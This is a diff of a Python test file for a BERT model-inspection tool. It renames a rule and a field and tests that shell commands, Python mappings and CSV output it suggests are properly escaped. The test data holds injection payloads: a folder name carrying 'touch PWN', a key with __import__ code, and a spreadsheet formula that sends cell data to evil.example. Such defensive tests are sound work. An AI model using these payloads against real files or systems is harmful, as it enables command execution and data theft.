@@ -22,7 +22,7 @@ from hypothesis import strategies as st
 from safetensors.numpy import load_file, save_file
 
 from bertprobe.errors import command, escaped, is_text, printable
-from bertprobe.render.machine import _for_csv
+from bertprobe.render.data_formats import _for_csv
 from bertprobe.render.markdown import escaped as markdown
 
 FORMULAS = ["=1+1", "+1", "-1+2", "@SUM(A1)", " =1", "\t=1", "＝1", "－1", '=WEBSERVICE("http://evil.example/?"&A2)']
@@ -112,14 +112,14 @@ def test_a_command_is_one_command_whatever_is_in_it(words: list[str]) -> None:
 
 
 def test_a_path_in_a_suggestion_runs_nothing(tmp_path: Path, tiny_bert: Path, run: Run) -> None:
-    """The cure of names-hidden is pasted into a shell: it must export that folder, and do nothing else."""
+    """The hint of prefix-not-stripped is pasted into a shell: it must export that folder, and do nothing else."""
     folder = tmp_path / "x; touch PWN #"
     shutil.copytree(tiny_bert, folder)
     tensors = load_file(folder / "model.safetensors")
     save_file({f"module.{name}": values for name, values in tensors.items()}, folder / "model.safetensors")
     findings = json.loads(run(["inspect", folder, "--json"]).out)["findings"]
-    (cure,) = [finding["cure"] for finding in findings if finding["rule"] == "names-hidden"]
-    pasted = re.search(r"bertprobe export .*", cure)
+    (hint,) = [finding["hint"] for finding in findings if finding["rule"] == "prefix-not-stripped"]
+    pasted = re.search(r"bertprobe export .*", hint)
     assert pasted is not None
     (tmp_path / "NEW").mkdir()
     script = f'bertprobe() {{ "{sys.executable}" -m bertprobe "$@"; }}\n{pasted[0]}'
@@ -128,21 +128,23 @@ def test_a_path_in_a_suggestion_runs_nothing(tmp_path: Path, tiny_bert: Path, ru
     assert (tmp_path / "NEW" / "model.safetensors").exists()
 
 
-@pytest.mark.parametrize("hiding", ["module.", 'x": __import__("os").getcwd()}) #.', "a'b.", "line\nend.", 'q"q.'])
-def test_a_mapping_in_a_suggestion_is_the_one_it_looks(hiding: str, tmp_path: Path, run: Run) -> None:
+@pytest.mark.parametrize(
+    "unknown_prefix", ["module.", 'x": __import__("os").getcwd()}) #.', "a'b.", "line\nend.", 'q"q.']
+)
+def test_a_mapping_in_a_suggestion_is_the_one_it_looks(unknown_prefix: str, tmp_path: Path, run: Run) -> None:
     """It is pasted into Python: a dictionary of one string to one string, and the pattern takes the prefix off."""
     names = ("encoder.layer.0.intermediate.dense.weight", "encoder.layer.0.output.dense.weight", "pooler.dense.weight")
-    tensors = {f"{hiding}module.{name}": np.ones((4, 4), np.float32) for name in names}
+    tensors = {f"{unknown_prefix}module.{name}": np.ones((4, 4), np.float32) for name in names}
     save_file(tensors, tmp_path / "model.safetensors")
     (tmp_path / "config.json").write_text('{"model_type": "bert"}')
     findings = json.loads(run(["inspect", tmp_path, "--json"]).out)["findings"]
-    cures = [finding["cure"] for finding in findings if finding["rule"] == "names-hidden"]
-    assert cures
-    text = re.search(r"key_mapping=(.*) to from_pretrained", cures[0])
+    hints = [finding["hint"] for finding in findings if finding["rule"] == "prefix-not-stripped"]
+    assert hints
+    text = re.search(r"key_mapping=(.*) to from_pretrained", hints[0])
     assert text is not None
     mapping = ast.literal_eval(text[1])
     assert list(mapping.values()) == [""]
-    assert re.sub(next(iter(mapping)), "", f"{hiding}module.x") == "x"
+    assert re.sub(next(iter(mapping)), "", f"{unknown_prefix}module.x") == "x"
 
 
 # ------------------------------------------------------------------------------------------------ drawings
